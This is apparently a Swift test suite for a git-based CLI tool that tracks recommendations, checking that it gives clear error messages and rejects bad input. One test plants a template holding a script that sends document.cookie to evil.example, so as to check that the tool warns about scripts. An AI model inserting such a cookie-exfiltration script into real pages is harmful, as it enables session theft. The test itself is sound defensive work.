import Foundation
import RecTrackTestSupport
import Testing

/// Messages that used to be raw or wrong: each says what happened and what to do next, and the
/// refused command leaves the repository as it was.
@Suite struct HostileMessagesTests {
  let repo: TestRepository
  let author = "Test Author <author@example.org>"

  init() throws {
    repo = try TestRepository()
    try repo.write("Recommendations/DP-01.yml", sampleRecommendation(id: "DP-01"))
    try repo.write("Recommendations/DP-02.yml", sampleRecommendation(id: "DP-02"))
    try repo.commitAll("Add recommendations")
  }

  func rectrack(_ args: String...) throws -> ProcessResult { try CLI.run(args, in: repo.path) }
  func head() throws -> String { try repo.git("rev-parse", "HEAD") }

  @Test func importOfAFolderAndRepoOfAFileSayWhatToGive() throws {
    let folder = try rectrack("import", repo.scratch)
    #expect(folder.status == 2)
    #expect(folder.stderr.hasPrefix("error: \(repo.scratch) is a folder, not a sheet."), "\(folder.stderr)")
    #expect(!folder.stderr.contains("NSCocoaErrorDomain"))
    let missing = try rectrack("import", repo.scratch + "/nothing.csv")
    #expect(
      missing.stderr.hasPrefix("error: there is no file \(repo.scratch)/nothing.csv."), "\(missing.stderr)")

    let file = repo.scratch + "/passwd"
    try "root:x:0:0\n".write(toFile: file, atomically: true, encoding: .utf8)
    let r = try CLI.run(["list", "--repo", file], in: repo.scratch)
    #expect(r.status == 2)
    #expect(r.stderr.hasPrefix("error: \(file) is a file, not a folder."), "\(r.stderr)")
    #expect(!r.stderr.contains("rectrack init"))
  }

  @Test func aDuplicateNewSaysTheIDIsTaken() throws {
    let before = try head()
    let r = try rectrack(
      "new", "--id", "DP-01", "--title", "t", "--source", "s", "--owner", "o", "--author", author)
    #expect(r.status == 2)
    #expect(
      r.stderr
        == "error: recommendation DP-01 already exists at Recommendations/DP-01.yml. Choose another ID.\n")
    #expect(try head() == before)
  }

  @Test func newWritesTheSourceHeadingAsItIsNotAsHTML() throws {
    let r = try rectrack(
      "new", "--id", "DP-03", "--title", "Fish & chips <b>", "--source", "Review: Q&A <2021> \"x\"",
      "--owner", "o",
      "--author", author)
    #expect(r.status == 0, "\(r.stderr)")
    let text = try repo.read("Recommendations/DP-03.yml")
    #expect(text.hasPrefix("# Review: Q&A <2021> \"x\"\n"), "\(text)")
    #expect(!text.contains("&amp;") && !text.contains("&lt;") && !text.contains("&quot;"))
  }

  @Test func rolesWithPeopleThatAreNotAddressesAreRefused() throws {
    try repo.write("rectrack.yml", "roles:\n  commissioner:\n    people: 42\n    may-set: all\n")
    try repo.commitAll("Roles")
    let r = try rectrack("audit")
    #expect(r.status == 2)
    #expect(
      r.stderr.contains("'42' in the 'people' of role 'commissioner' is not an email address"), "\(r.stderr)")
  }

  @Test func supersededByMustNameAnExistingRecommendation() throws {
    let before = try head()
    let r = try rectrack(
      "status", "DP-01", "superseded", "--superseded-by", "DP-99", "--note", "x", "--author", author)
    #expect(r.status == 2)
    #expect(r.stderr.contains("DP-99"), "\(r.stderr)")
    #expect(try head() == before)
    let ok = try rectrack(
      "status", "DP-01", "superseded", "--superseded-by", "DP-02", "--note", "x", "--author", author)
    #expect(ok.status == 0, "\(ok.stderr)")

    try repo.write(
      "Recommendations/DP-02.yml", sampleRecommendation(id: "DP-02", extra: "superseded-by: DP-77\n"))
    let validate = try rectrack("validate")
    #expect(validate.status == 1)
    #expect(
      validate.stdout.contains(
        "Recommendations/DP-02.yml:13:1: error: superseded-by names DP-77, but there is no recommendation DP-77"
      ),
      "\(validate.stdout)")
  }

  @Test func effectiveBeforeTheRaisedDateIsRefused() throws {
    let before = try head()
    for args in [["status", "DP-01", "in-progress"], ["update", "DP-01", "--progress", "Started"]] {
      let r = try CLI.run(args + ["--effective", "1900-01-01", "--author", author], in: repo.path)
      #expect(r.status == 2, "\(args)")
      #expect(
        r.stderr.hasPrefix("error: --effective 1900-01-01 is before DP-01 was raised (2019-10-01);"),
        "\(args): \(r.stderr)")
    }
    #expect(try head() == before)
  }

  @Test func aRepositoryTemplateWithAScriptIsUsedWithAWarning() throws {
    try repo.write(
      "Templates/summary.html.mustache",
      "<html><body><script>fetch('https://evil.example/?'+document.cookie)</script>{{title}}</body></html>\n")
    try repo.commitAll("Template")
    let r = try rectrack("summary", "--format", "html")
    #expect(r.status == 0, "\(r.stderr)")
    #expect(r.stdout.contains("<script>"))
    #expect(
      r.stderr.contains(
        "warning: Templates/summary.html.mustache contains '<script': the HTML written from it can run code"),
      "\(r.stderr)")
    #expect(r.stderr.contains("git log -p Templates/summary.html.mustache"))
    let builtIn = try rectrack("summary", "--format", "md")
    #expect(!builtIn.stderr.contains("warning"), "\(builtIn.stderr)")
  }

  @Test func aLockedIndexGetsAdviceThatKeepsStagedWork() throws {
    try repo.write("notes.txt", "my staged work\n")
    try repo.git("add", "notes.txt")
    try "".write(toFile: repo.path + "/.git/index.lock", atomically: true, encoding: .utf8)
    let r = try rectrack("status", "DP-01", "in-progress", "--author", author)
    // The advice never resets the whole index (that would unstage notes.txt).
    #expect(!r.stderr.contains("git reset -q'"), "\(r.stderr)")
    #expect(!r.stderr.contains("run 'git reset -q'."))
  }
}
